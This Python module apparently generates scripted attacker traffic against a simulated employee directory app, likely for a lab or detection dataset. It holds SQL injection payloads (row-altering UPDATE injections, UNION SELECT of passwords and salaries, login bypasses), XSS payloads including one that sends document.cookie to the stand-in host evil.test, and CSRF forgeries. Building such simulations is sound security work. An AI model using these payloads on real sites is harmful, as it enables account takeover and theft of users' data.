"""What attackers do: at most some two requests a second that attack."""
from recorder.plain_client import AGENTS

from .directory import FIELDS, PEOPLE

ATTACKER = PEOPLE[11]


def attack_steps(kind, seconds, rand):
    """`update-N` alters N fields of others; `update-development` from one to six; the others read, plant or forge."""
    act, _, fields = kind.partition("-")
    agent, at = rand.choice(AGENTS), 0
    steps = [{"at": 0, "client": ATTACKER.login, "agent": agent, "do": "log_in"}]
    while (at := at + rand.uniform(0.6, 1.2)) < seconds:
        count = int(fields) if fields.isdigit() else rand.randint(1, 6)
        steps.append({"at": round(at, 3), "client": ATTACKER.login, "agent": agent, **ACTS[act](count, rand)})
        at += 2 if act == "stored" else 0
    return steps


def values(count, rand):
    return {name: f"owned{rand.randrange(10**4)}" for name in rand.sample(FIELDS, count)}


def update(count, rand):
    """An UPDATE of somebody else's row by a field that ends the literal."""
    (first, one), *rest = values(count, rand).items()
    target = rand.choice([f"id={rand.randint(1, 11)}", f"login='{rand.choice(PEOPLE[:11]).login}'"])
    text = one + "".join(f"', {name}='{value}" for name, value in rest) + f"' WHERE {target} {rand.choice(['-- ', '#'])}"
    return {"do": "update", "form": {first: text}, "fields": count}


def union(_, rand):
    what = rand.choice(["id, login, password, salary FROM employees", "1, table_name, table_schema, 4 FROM information_schema.tables"])
    return {"do": "union", "q": f"zz%' UNION SELECT {what} -- "}


def bypass(_, rand):
    return {"do": "bypass", "login": rand.choice(["admin' -- ", "admin'#", "' OR 1=1 LIMIT 1 -- ", "' OR team='Sales' LIMIT 1#"])}


def stored(count, rand):
    """A script on the wall, which alters fields of whoever reads it."""
    return {"do": "plant", "form": values(count, rand), "fields": count}


def reflected(_, rand):
    code = ["<script>new Image().src='//evil.test/'+document.cookie</script>", "<img src=x onerror=alert(document.cookie)>", "<svg onload=fetch('//evil.test/')>"]
    return {"do": "reflected", "q": rand.choice(code)}


def forged(count, rand):
    """What another site's page makes a victim's browser send: the victim's cookie, that site's Origin."""
    return {"do": "forge", "victim": rand.choice(PEOPLE[1:11]).login, "victimAgent": rand.choice(AGENTS), "form": values(count, rand), "fields": count}


ACTS = {"update": update, "union": union, "bypass": bypass, "stored": stored, "reflected": reflected, "forged": forged}
